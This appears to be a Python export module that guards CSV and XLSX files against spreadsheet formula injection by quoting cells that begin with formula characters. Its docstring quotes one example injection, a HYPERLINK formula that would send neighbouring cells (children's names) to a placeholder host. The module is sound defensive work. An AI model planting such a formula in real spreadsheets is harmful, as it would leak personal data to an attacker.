"""The one writer of every CSV and XLSX file Kinga produces.

What goes into these files was typed by someone: a child's given name, a 4W activity, a plan title, a site
name read from an IPIS file. A spreadsheet program opening the file runs a cell that starts with `=` (or `+`,
`-`, `@`, and in some programs a leading tab or carriage return) as a formula: `=HYPERLINK("http://x/?"&A1,…)`
in a caseworker's entry would send the neighbouring cells (children's names) to anyone who set the link.

- CSV: a text cell starting with one of those characters gets a leading single quote (OWASP's rule), which
  spreadsheet programs show as text. Numbers are written as numbers (a negative number is not text).
- XLSX: text is always written as a string cell (XlsxWriter's `write`/`write_row` turn a string starting with
  `=` into a live formula); a string starting with one of those characters is also marked "quote prefix", so
  that editing the cell in Excel or LibreOffice keeps it text. The stored value is the exact text.

Code elsewhere never touches `csv.writer` or `xlsxwriter` directly (a test greps for it): a new export that
bypassed this module would ship the hole again.
"""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

import xlsxwriter

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """The text a CSV cell may safely hold: a formula-looking value is prefixed with a single quote."""
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def csv_cell(value: Any) -> Any:
    """One CSV cell: numbers stay numbers, dates ISO 8601, every text neutralised."""
    # Called for every cell of every export (3 million for the national 4W file): plain text and integers,
    # nearly all the cells, are decided by their exact type first.
    kind = type(value)
    if kind is str:
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if kind is int:
        return value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else "0"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime.date):  # datetime is a date too
        return value.isoformat()
    return neutralise(str(value))


class _Echo:
    """A file that gives back what is written: csv.writer then returns each line as a string."""

    def write(self, value: str) -> str:
        return value


class CsvWriter:
    """csv.writer with every cell neutralised. Without a target, `writerow` returns the line (streaming)."""

    def __init__(self, target: Any = None, **options: Any) -> None:
        self._writer = csv.writer(target if target is not None else _Echo(), **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(list(map(csv_cell, row)))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_lines(rows: Iterable[Iterable[Any]], *, bom: bool = False) -> Iterator[str]:
    """CSV text line by line, for a StreamingHttpResponse. The BOM lets spreadsheet programs detect UTF-8."""
    writer = CsvWriter()
    if bom:
        yield "\ufeff"
    for row in rows:
        yield writer.writerow(row)


def csv_text(rows: Iterable[Iterable[Any]], *, bom: bool = False) -> str:
    return "".join(csv_lines(rows, bom=bom))


def write_csv_dicts(target: Any, fieldnames: Sequence[str], rows: Iterable[dict], **options: Any) -> None:
    """csv.DictWriter's job (header, then one line per dict, missing keys empty), through the safe writer."""
    writer = CsvWriter(target, **options)
    writer.writerow(fieldnames)
    for row in rows:
        writer.writerow(row.get(name) for name in fieldnames)


class Workbook:
    """An XLSX workbook (XlsxWriter) whose sheets write every value with its type, never as a formula.

    `target` is a path or a seekable binary file; `options` are XlsxWriter's (constant_memory, in_memory...).
    """

    def __init__(self, target: Any, options: dict | None = None) -> None:
        options = dict(options or {})
        # A string that looks like a number or a URL stays the text it was.
        options.update(strings_to_formulas=False, strings_to_numbers=False, strings_to_urls=False)
        options.setdefault("default_date_format", "yyyy-mm-dd")
        options.setdefault("remove_timezone", True)
        self._book = xlsxwriter.Workbook(target, options)
        self._properties: dict[int, dict] = {}
        self._quoted: dict[int | None, Any] = {}
        self._date = self._book.add_format({"num_format": options["default_date_format"]})

    def add_format(self, properties: dict | None = None):
        fmt = self._book.add_format(properties or {})
        self._properties[id(fmt)] = dict(properties or {})
        return fmt

    def quoted(self, fmt):
        """The same format with Excel's quote prefix: the cell stays text when someone edits it."""
        key = id(fmt) if fmt is not None else None
        if key not in self._quoted:
            properties = self._properties.get(key, {}) if key is not None else {}
            self._quoted[key] = self._book.add_format({**properties, "quote_prefix": True})
        return self._quoted[key]

    def add_worksheet(self, name: str | None = None) -> Sheet:
        return Sheet(self, self._book.add_worksheet(name))

    def close(self) -> None:
        self._book.close()


class Sheet:
    """One worksheet: `write`, `write_row` and `merge_range` choose the cell type from the Python value."""

    def __init__(self, book: Workbook, sheet) -> None:
        self._book = book
        self._sheet = sheet

    def write(self, row: int, col: int, value: Any, fmt=None) -> None:
        sheet = self._sheet
        if value is None or value == "":
            sheet.write_blank(row, col, None, fmt)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value, fmt)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(row, col, float(value), fmt)
        elif isinstance(value, datetime.date):
            sheet.write_datetime(row, col, value, fmt or self._book._date)
        else:
            text = str(value)
            if text.startswith(FORMULA_PREFIXES):
                fmt = self._book.quoted(fmt)
            sheet.write_string(row, col, text, fmt)

    def write_row(self, row: int, col: int, values: Iterable[Any], fmt=None) -> None:
        for offset, value in enumerate(values):
            self.write(row, col + offset, value, fmt)

    def merge_range(self, first_row: int, first_col: int, last_row: int, last_col: int, value: Any, fmt=None):
        # XlsxWriter's merge_range writes its value with write(): merge blank, then write the typed value.
        self._sheet.merge_range(first_row, first_col, last_row, last_col, None, fmt)
        self.write(first_row, first_col, value, fmt)

    def set_column(self, first_col: int, last_col: int, width: float, fmt=None) -> None:
        self._sheet.set_column(first_col, last_col, width, fmt)

    def autofilter(self, first_row: int, first_col: int, last_row: int, last_col: int) -> None:
        self._sheet.autofilter(first_row, first_col, last_row, last_col)

    def freeze_panes(self, row: int, col: int) -> None:
        self._sheet.freeze_panes(row, col)


def xlsx_bytes(build) -> bytes:
    """Run `build(workbook)` on an in-memory workbook and return the file's bytes."""
    buffer = io.BytesIO()
    book = Workbook(buffer, {"in_memory": True})
    build(book)
    book.close()
    return buffer.getvalue()
